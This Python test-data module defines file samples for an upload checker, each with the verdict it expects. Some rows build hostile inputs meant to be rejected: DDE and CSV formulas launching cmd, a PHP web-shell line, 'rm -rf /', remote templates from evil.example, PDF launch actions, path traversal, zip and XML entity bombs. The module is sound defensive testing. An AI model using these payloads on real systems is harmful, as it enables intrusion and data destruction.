"""The corpus: kinds of files that arrive or that somebody could send, and what must happen to each. Anybody may add a line."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from typing import Any

import pikepdf

from tests.files import making
from tests.files.compound import compound
from tests.files.making import (
    EICAR,
    action,
    email,
    link,
    office,
    open_document,
    outlook,
    pdf,
    picture,
    relation,
    zipped,
)


@dataclass(frozen=True)
class Row:
    """One kind of file: what it is called and declared as, its bytes, and the kind or the refusal that must come of it."""

    what: str
    name: str
    make: Callable[[], bytes]
    expected: str
    declared: str = ""


def _field(instruction: str, *, split: bool = False) -> str:
    pieces = list(instruction) if split else [instruction]
    return "".join(f'<w:r><w:instrText xml:space="preserve">{one}</w:instrText></w:r>' for one in pieces)


def _script() -> pikepdf.Dictionary:
    return action("JavaScript", JS=pikepdf.String("app.alert(1)"))


def _names(**trees: Any) -> dict[str, Any]:
    return {"/Names": pikepdf.Dictionary(**trees)}


def _attached() -> bytes:
    document = pikepdf.open(BytesIO(pdf()))
    document.attachments["x.exe"] = b"MZ"
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def _locked(user: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=user))


def _zip(change: Callable[[zipfile.ZipFile], None]) -> bytes:
    out = BytesIO(office())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        change(archive)
    return out.getvalue()


def _member(name: str, content: bytes = b"<a/>", mode: int = 0) -> bytes:
    entry = zipfile.ZipInfo(name)
    entry.external_attr = mode << 16
    return _zip(lambda archive: archive.writestr(entry, content))


def _patched(old: bytes, new: bytes, *, last: bool = False) -> bytes:
    """A document with bytes changed once: at the first place (a member's own head) or the last (the table)."""
    data = office()
    at = data.rindex(old) if last else data.index(old)
    return data[:at] + new + data[at + len(old) :]


def _inner_bomb() -> bytes:
    return _zip(lambda archive: archive.writestr("word/media/image1.bmp", b"\0" * 60_000_000))


def _streamed() -> bytes:
    """A document whose writer did not know the sizes before it had written, as those of web services do not."""
    source, out = zipfile.ZipFile(BytesIO(office())), BytesIO()

    class Pipe:
        write, flush = out.write, out.flush

    with zipfile.ZipFile(Pipe(), "w", zipfile.ZIP_DEFLATED) as archive:  # type: ignore[call-overload] # cannot be sought
        for name in source.namelist():
            archive.writestr(name, source.read(name))
    return out.getvalue()


def _twice() -> bytes:
    data = _zip(lambda archive: archive.writestr("word/documenT.xml", "<a/>"))
    return data.replace(b"word/documenT.xml", b"word/document.xml")


def _book(kind: int, body: bytes) -> Callable[[], bytes]:
    return lambda: making.excel((kind, body))


DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
OLE_OBJECT = (
    '<manifest:file-entry manifest:full-path="Object 1" manifest:media-type="application/vnd.sun.star.oleobject"/>'
)
LOCKED_ODF = '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'
EVENT = '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.b?language=Basic"/>'
FAR_PICTURE = '<draw:image xlink:href="https://evil.example/p.png"/>'
DTD = '<!DOCTYPE a [<!ENTITY b "cc"><!ENTITY d "&b;&b;">]>'
LNK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 60
HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
MACRO_TYPE = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'

GOOD = (
    Row("PDF", "Chronology.pdf", pdf, "pdf", "application/pdf"),
    Row("PDF of many pages, compressed objects", "a.pdf", lambda: pdf(pages=30, object_stream_mode=pikepdf.ObjectStreamMode.generate), "pdf"),
    Row("PDF that a web page can be reached from", "a.pdf", lambda: pdf(page=link(action("URI", URI=pikepdf.String("https://school.example/")))), "pdf"),
    Row("PDF that opens at its second page", "a.pdf", lambda: pdf(pages=2, root={"/OpenAction": action("GoTo", D=pikepdf.Array([0, pikepdf.Name.Fit]))}), "pdf"),
    Row("PDF with a form to fill in", "a.pdf", lambda: pdf(root={"/AcroForm": pikepdf.Dictionary(Fields=pikepdf.Array([]))}), "pdf"),
    Row("PDF that may not be printed, readable by all", "a.pdf", lambda: _locked(""), "pdf"),
    Row("Word document", "Siân's notes.docx", office, "docx", DOCX),
    Row("Word document declared as an old one", "a.docx", office, "docx", "application/msword"),
    Row("Word document with a link", "a.docx", lambda: office(relations=relation("hyperlink", "https://school.example/")), "docx"),
    Row("Word document of a school's own template", "a.docx", lambda: office(relations=relation("attachedTemplate", "file:///S:\\Templates\\Letter.dotx")), "docx"),
    Row("Word document of a Mac's own template", "a.docx", lambda: office(relations=relation("attachedTemplate", "file:///Users/sian/Library/a.dotx")), "docx"),
    Row("Word document with a page number", "a.docx", lambda: office(text=_field(" PAGE \\* MERGEFORMAT ")), "docx"),
    Row("Word document with a picture", "a.docx", lambda: office(word__media__image1_dot_png=picture("PNG")), "docx"),
    Row("Word document of a web service", "a.docx", _streamed, "docx"),
    Row("Excel workbook", "Attendance.xlsx", lambda: office("xlsx"), "xlsx", "application/vnd.ms-excel"),
    Row("PowerPoint", "a.pptx", lambda: office("pptx"), "pptx"),
    Row("LibreOffice text", "a.odt", open_document, "odt"),
    Row("LibreOffice table", "a.ods", lambda: open_document("ods"), "ods"),
    Row("old Word document", "a.doc", making.word, "doc", "application/msword"),
    Row("old Excel workbook", "a.xls", making.excel, "xls"),
    Row("rich text", "a.rtf", lambda: rb"{\rtf1\ansi\deff0 {\fonttbl{\f0 Arial;}}Si\'e2n came in.\par}" + b"\r\n", "rtf", "application/msword"),
    Row("text", "a.txt", "Dywedodd Siân: “na”.\r\n".encode, "txt", "text/plain; charset=utf-8"),
    Row("text of an old Windows program", "a.txt", lambda: "Siân said “no”".encode("cp1252"), "txt"),
    Row("text of Notepad in two bytes a letter", "a.txt", lambda: "Siân".encode("utf-16"), "txt"),
    Row("text that only tells of a script", "a.txt", lambda: b"He had written <script> on the wall.", "txt"),
    Row("the scanner's test string, which is text", "a.txt", lambda: EICAR, "txt"),
    Row("table as text", "a.csv", lambda: b'Date,Note\r\n26/11/2026,"absent, no reason"\r\n,- none\r\n,+44 1632 960001,-12.5,@sian\r\n', "csv", "application/vnd.ms-excel"),
    Row("email", "a.eml", email, "eml", "message/rfc822"),
    Row("email with a PDF and a picture", "a.eml", lambda: email(("a.pdf", pdf()), ("b.jpg", picture())), "eml"),
    Row("email of Outlook with a PDF", "a.msg", lambda: outlook(("a.pdf", pdf())), "msg"),
    Row("JPEG", "a.JPG", picture, "jpeg", "image/jpeg"),
    Row("JPEG of a telephone with its place", "IMG_2041.jpeg", making.photograph, "jpeg"),
    Row("HEIC of a telephone", "IMG_2042.HEIC", lambda: making.photograph("HEIF"), "heic", "image/heic"),
    Row("PNG", "a.png", lambda: picture("PNG"), "png"),
    Row("GIF", "a.gif", lambda: picture("GIF"), "gif"),
    Row("WEBP", "a.webp", lambda: picture("WEBP"), "webp"),
    Row("JPEG with a zip after it: written anew", "a.jpg", lambda: picture() + zipped({"a.class": b"x"}), "jpeg"),
    Row("JPEG with a page in its comment: written anew", "a.jpg", lambda: picture(comment=HTML), "jpeg"),
    Row("PNG with PHP after it: written anew", "a.png", lambda: picture("PNG") + b"<?php system($_GET[1]);", "png"),
)  # fmt: skip

NAMES = (
    Row("path upwards", "../../etc/passwd", pdf, "no_ending"),
    Row("path upwards to a good name", "../../a.pdf", pdf, "pdf"),
    Row("path of Windows", "C:\\fakepath\\a.pdf", pdf, "pdf"),
    Row("NUL in the middle", "a.pdf\0.jpg", pdf, "content_differs"),
    Row("NUL that hides a program", "a.exe\0.pdf", pdf, "two_endings"),
    Row("turned around to look like a PDF", "annex\u202efdp.exe", lambda: b"MZ", "program"),
    Row("255 bytes", f"{'é' * 140}.pdf", pdf, "pdf"),
    Row("another script", "李.pdf", pdf, "pdf"),
    Row("emoji", "👶🏽.pdf", pdf, "pdf"),
    Row("line break and header", "a\r\nX-Header: 1.pdf", pdf, "pdf"),
    Row("quotes and semicolons", 'a";filename="b.pdf', pdf, "pdf"),
    Row("name of a device", "con.txt", lambda: b"Words", "txt"),
    Row("dots and spaces at the end", "a.exe. . ", lambda: b"MZ", "program"),
    Row("two endings, the first of a program", "letter.exe.pdf", pdf, "two_endings"),
    Row("two endings of documents", "letter.doc.pdf", pdf, "pdf"),
    Row("address in a name", "Email from head@school.example.com.pdf", pdf, "pdf"),
    Row("no ending", "letter", pdf, "no_ending"),
    Row("only an ending", ".pdf", pdf, "no_ending"),
    Row("empty name", "", pdf, "no_ending"),
    Row("unknown ending", "a.xyz", pdf, "unknown_kind"),
    Row("declared as a picture", "a.pdf", pdf, "type_differs", "image/png"),
    Row("declared as a page", "a.txt", lambda: b"Words", "type_differs", "text/html"),
    Row("program", "a.exe", lambda: b"MZ\x90\0", "program"),
    Row("link of Windows", "a.lnk", lambda: LNK, "program"),
    Row("page", "a.html", lambda: HTML, "web_page"),
    Row("drawing that can run", "a.svg", lambda: SVG, "web_page", "image/svg+xml"),
    Row("zip", "a.zip", lambda: zipped({"a": b"b"}), "archive", "application/zip"),
    Row("image of a disk", "a.iso", lambda: b"\0" * 99, "archive"),
    Row("OneNote", "a.one", lambda: b"\xe4\x52\x5c\x7b", "program"),
    Row("Word document with macros", "a.docm", office, "macros"),
    Row("voice message", "a.m4a", lambda: b"\0\0\0 ftypM4A ", "recording", "audio/x-m4a"),
    Row("film of a telephone", "a.MOV", lambda: b"\0\0\0\x14ftypqt  ", "recording", "video/quicktime"),
    Row("fax", "a.tif", lambda: picture("TIFF"), "picture_kind"),
    Row("old PowerPoint", "a.ppt", making.word, "document_kind"),
    Row("calendar entry with the test string", "a.ics", lambda: b"BEGIN:VCALENDAR\r\n" + EICAR, "document_kind"),
)  # fmt: skip

DIFFERENT = (
    Row("empty", "a.pdf", lambda: b"", "empty"),
    Row("PNG called JPEG", "a.jpg", lambda: picture("PNG"), "content_differs", "image/jpeg"),
    Row("JPEG called PDF", "a.pdf", picture, "content_differs"),
    Row("PDF called PNG", "a.png", pdf, "content_differs"),
    Row("PDF called Word document", "a.docx", pdf, "content_differs"),
    Row("Word document called Excel", "a.xlsx", office, "content_differs"),
    Row("LibreOffice text called table", "a.ods", open_document, "content_differs"),
    Row("LibreOffice text called Word document", "a.docx", open_document, "content_differs"),
    Row("old Word document called Excel", "a.xls", making.word, "content_differs"),
    Row("old Excel workbook called Word", "a.doc", making.excel, "content_differs"),
    Row("Outlook email called Word document", "a.doc", outlook, "content_differs"),
    Row("Word document called Outlook email", "a.msg", making.word, "content_differs"),
    Row("page called PDF", "a.pdf", lambda: HTML, "content_differs"),
    Row("page called picture", "a.jpg", lambda: HTML, "content_differs"),
    Row("page called text", "a.txt", lambda: b"\xef\xbb\xbf \n" + HTML, "content_differs"),
    Row("page in two bytes a letter called text", "a.txt", lambda: HTML.decode().encode("utf-16"), "content_differs"),
    Row("drawing called text", "a.txt", lambda: SVG, "content_differs"),
    Row("MHTML called text", "a.txt", lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related", "content_differs"),
    Row("link called PDF", "a.pdf", lambda: LNK, "content_differs"),
    Row("program called text", "a.txt", lambda: b"MZ\x90\0" + b"\0" * 60, "content_differs"),
    Row("web address file called text", "a.txt", lambda: b"[InternetShortcut]\r\nURL=file:///c:/x.exe", "content_differs"),
    Row("script called table", "a.csv", lambda: b"#!/bin/sh\nrm -rf /", "content_differs"),
    Row("zip called table", "a.csv", lambda: zipped({"a": b"b"}), "content_differs"),
    Row("zip called Word document", "a.docx", lambda: zipped({"a.txt": b"b"}), "content_differs"),
    Row("words called email", "a.eml", lambda: b"Only some words", "content_differs"),
    Row("film called HEIC", "a.heic", lambda: b"\0\0\0\x18ftypmp42" + b"\0" * 99, "content_differs"),
    Row("Word template called document", "a.docx", lambda: office(main="wordprocessingml.template.main+xml"), "content_differs"),
)  # fmt: skip

RUNS = (
    Row("macros in a Word document", "a.docx", lambda: office(types=MACRO_TYPE, word__vbaProject_dot_bin=b"x"), "macros", DOCX),
    Row("macros without a word about them", "a.docx", lambda: office(word__vbaProject_dot_bin=b"x"), "macros"),
    Row("macros of Excel 4", "a.xlsx", lambda: office("xlsx", xl__macrosheets__sheet1_dot_xml="<a/>"), "macros"),
    Row("ActiveX", "a.docx", lambda: office(word__activeX__activeX1_dot_xml="<a/>"), "macros"),
    Row("object in a Word document", "a.docx", lambda: office(word__embeddings__oleObject1_dot_bin=b"x"), "embedded"),
    Row("program called picture in a document", "a.docx", lambda: office(word__media__image1_dot_png=b"MZ\x90\0"), "embedded"),
    Row("archive in a document", "a.docx", lambda: office(word__media__image1_dot_png=zipped({"a": b"b"})), "embedded"),
    Row("template from elsewhere", "a.docx", lambda: office(relations=relation("attachedTemplate", "https://evil.example/a.dotm")), "outside"),
    Row("template from a shared folder", "a.docx", lambda: office(relations=relation("attachedTemplate", "file://\\\\evil.example\\a.dotm")), "outside"),
    Row("picture from elsewhere", "a.docx", lambda: office(relations=relation("image", "https://evil.example/p.png")), "outside"),
    Row("link that is a program", "a.docx", lambda: office(relations=relation("hyperlink", "file:///c:/windows/calc.exe")), "outside"),
    Row("DDE", "a.docx", lambda: office(text=_field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), "outside"),
    Row("DDE in single letters", "a.docx", lambda: office(text=_field(" DDEAUTO cmd", split=True)), "outside"),
    Row("DDE in references", "a.docx", lambda: office(text=_field("&#68;&#68;E cmd")), "outside"),
    Row("other workbook", "a.xlsx", lambda: office("xlsx", xl__externalLinks__externalLink1_dot_xml="<a/>"), "outside"),
    Row("Basic in LibreOffice", "a.odt", lambda: open_document(Basic__Standard__a_dot_xml="<a/>"), "macros"),
    Row("event in LibreOffice", "a.odt", lambda: open_document(content=EVENT), "macros"),
    Row("object in LibreOffice", "a.odt", lambda: open_document(manifest=OLE_OBJECT), "embedded"),
    Row("picture from elsewhere in LibreOffice", "a.odt", lambda: open_document(content=FAR_PICTURE), "outside"),
    Row("DDE in LibreOffice", "a.ods", lambda: open_document("ods", content="<office:dde-source/>"), "outside"),
    Row("macros in an old Word document", "a.doc", lambda: making.word(Macros__VBA__dir=b"x"), "macros"),
    Row("macros in an old workbook", "a.xls", lambda: making.excel(_VBA_PROJECT_CUR__VBA__dir=b"x"), "macros"),
    Row("macro sheet in an old workbook", "a.xls", _book(0x85, b"\0\0\0\0\0\x01\x01\0a"), "macros"),
    Row("object in an old Word document", "a.doc", lambda: making.word(ObjectPool__1234__x=b"x"), "embedded"),
    Row("DDE in an old Word document", "a.doc", lambda: making.word(b"\x13 DDEAUTO cmd \x14"), "outside"),
    Row("other workbook of an old one", "a.xls", _book(0x1AE, struct.pack("<HH", 1, 20) + b"x"), "outside"),
    Row("object in rich text", "a.rtf", lambda: b"{\\rtf1{\\object\\objemb{\\*\\obj\ndata 0105}}}", "embedded"),
    Row("DDE in rich text", "a.rtf", lambda: rb"{\rtf1{\field{\*\fldinst {DDEAUTO cmd}}}}", "outside"),
    Row("template of rich text", "a.rtf", lambda: rb"{\rtf1{\*\template http://evil.example/a}}", "outside"),
    Row("formula in a table", "a.csv", lambda: b"a,b\r\n1,=cmd|'/c calc'!A0\r\n", "formulas"),
    Row("formula behind quotes", "a.csv", lambda: b'a,"=HYPERLINK(""http://evil.example"")"', "formulas"),
    Row("formula with a plus", "a.csv", lambda: b"a\n+cmd|' /c calc'!A0", "formulas"),
    Row("script in a PDF", "a.pdf", lambda: pdf(root={"/OpenAction": _script()}), "active"),
    Row("script in a PDF, spelled otherwise", "a.pdf", lambda: pdf(root={"/OpenAction": _script()}).replace(b"/JavaScript", b"/J#61vaScript"), "active"),
    Row("script in packed objects", "a.pdf", lambda: pdf(root=_names(JavaScript=pikepdf.Dictionary()), object_stream_mode=pikepdf.ObjectStreamMode.generate), "active"),
    Row("script when a page is opened", "a.pdf", lambda: pdf(page={"/AA": pikepdf.Dictionary(O=_script())}), "active"),
    Row("PDF that starts a program", "a.pdf", lambda: pdf(root={"/OpenAction": action("Launch", F=pikepdf.String("cmd.exe"))}), "active"),
    Row("PDF that sends a form", "a.pdf", lambda: pdf(page=link(action("SubmitForm"))), "active"),
    Row("PDF that opens another", "a.pdf", lambda: pdf(page=link(action("GoToR", F=pikepdf.String("\\\\evil\\a")))), "active"),
    Row("link to a program", "a.pdf", lambda: pdf(page=link(action("URI", URI=pikepdf.String("file:///c:/a.exe")))), "outside"),
    Row("PDF with XFA", "a.pdf", lambda: pdf(root={"/AcroForm": pikepdf.Dictionary(XFA=pikepdf.Array([]), Fields=pikepdf.Array([]))}), "active"),
    Row("PDF with a film", "a.pdf", lambda: pdf(page={"/Annots": pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])])}), "active"),
    Row("PDF with a file in it", "a.pdf", _attached, "embedded"),
    Row("PDF with a password", "a.pdf", lambda: _locked("secret"), "encrypted"),
    Row("Word document with a password", "a.docx", lambda: compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "encrypted"),
    Row("old Word document with a password", "a.doc", lambda: making.word(flags=0x0100), "encrypted"),
    Row("old workbook with a password", "a.xls", _book(0x2F, b"\0\0"), "encrypted"),
    Row("LibreOffice with a password", "a.odt", lambda: open_document(manifest=LOCKED_ODF), "encrypted"),
    Row("email with a program", "a.eml", lambda: email(("a.exe", b"MZ")), "inside_email"),
    Row("email with a zip", "a.eml", lambda: email(("a.zip", zipped({"a": b"b"}))), "inside_email"),
    Row("email in an email", "a.eml", lambda: email(("b.eml", email())), "email_inside"),
    Row("Outlook email with a script in a PDF", "a.msg", lambda: outlook(("a.pdf", pdf(root={"/OpenAction": _script()}))), "inside_email"),
    Row("email in an Outlook email", "a.msg", lambda: outlook(("b.msg", outlook())), "email_inside"),
)  # fmt: skip

TRICKS = (
    Row("PDF with a zip after it", "a.pdf", lambda: pdf() + zipped({"a": b"b"}), "two_in_one"),
    Row("PDF that is a page as well", "a.pdf", lambda: b"%PDF-1.7\n%" + HTML + pdf(), "two_in_one"),
    Row("PDF behind other bytes", "a.pdf", lambda: b"GIF89a" + pdf(), "content_differs"),
    Row("GIF that is a script", "a.gif", lambda: b"GIF89a/*" + b"x" * 99 + b"*/=1;alert(1)", "broken"),
    Row("program before a document", "a.docx", lambda: b"MZ\x90\0" + office(), "content_differs"),
    Row("archive before a document", "a.docx", lambda: zipped({"a": b"b"}) + office(), "two_in_one"),
    Row("bytes after a document", "a.docx", lambda: office() + b"x" * 30, "two_in_one"),
    Row("rich text with something after it", "a.rtf", lambda: rb"{\rtf1 a}" + b"MZ\x90\0" * 9, "two_in_one"),
    Row("member's head differs in its name", "a.docx", lambda: _patched(b"word/document.xml", b"word/documexx.xml"), "broken"),
    Row("table differs in a size", "a.docx", lambda: _patched(b"PK\x01\x02\x14\x03\x14\0\0\0\x08\0", b"PK\x01\x02\x14\x03\x14\0\0\0\0\0", last=True), "broken"),
    Row("locked member", "a.docx", lambda: _patched(b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\x01\0"), "encrypted"),
    Row("member twice", "a.docx", _twice, "broken"),
    Row("member upwards", "a.docx", lambda: _member("../../evil.xml"), "broken"),
    Row("member at the root", "a.docx", lambda: _member("/etc/passwd"), "broken"),
    Row("member of another disk", "a.docx", lambda: _member("C:/evil.xml"), "broken"),
    Row("member that is a link", "a.docx", lambda: _member("word/a.xml", b"/etc/passwd", 0o120777), "broken"),
    Row("end that speaks of 64 bits", "a.docx", lambda: office()[:-14] + b"\xff" * 4 + office()[-10:], "broken"),
    Row("bomb", "a.docx", _inner_bomb, "expands"),
    Row("bomb without an end", "a.docx", lambda: zipped({f"a{n}.xml": b"\0" * 1_000_000 for n in range(40)}), "expands"),
    Row("1,001 members", "a.docx", lambda: zipped({f"word/{n}.xml": "<a/>" for n in range(1001)}), "too_many_parts"),
    Row("entities", "a.docx", lambda: office(word__styles_dot_xml=f"<?xml version='1.0'?>{DTD}<a>&d;</a>"), "broken"),
    Row("entities in LibreOffice", "a.odt", lambda: open_document(meta_dot_xml=f"{DTD}<a>&d;</a>"), "broken"),
    Row("entities in another encoding", "a.docx", lambda: office(word__styles_dot_xml=f"{DTD}<a>&d;</a>".encode("utf-16")), "broken"),
    Row("900 million pixels", "a.png", lambda: making.large_png(30_000, 30_000), "pixels"),
    Row("long line of pixels", "a.png", lambda: making.large_png(1_000_000, 2), "pixels"),
    Row("film as GIF", "a.gif", lambda: making.animated("GIF"), "animated"),
    Row("film as WEBP", "a.webp", lambda: making.animated("WEBP"), "animated"),
    Row("film as PNG", "a.png", lambda: making.animated("PNG"), "animated"),
    Row("half a JPEG", "a.jpg", lambda: picture(size=(640, 480))[:2000], "broken"),
    Row("half a PDF", "a.pdf", lambda: pdf()[:300], "broken"),
    Row("half a Word document", "a.docx", lambda: office()[:700], "broken"),
    Row("half a HEIC", "a.heic", lambda: making.photograph("HEIF")[:200], "broken"),
    Row("half an old Word document", "a.doc", lambda: making.word()[:900], "broken"),
    Row("zeros", "a.jpg", lambda: b"\0" * 5000, "broken"),
)  # fmt: skip

CORPUS = (*GOOD, *NAMES, *DIFFERENT, *RUNS, *TRICKS)
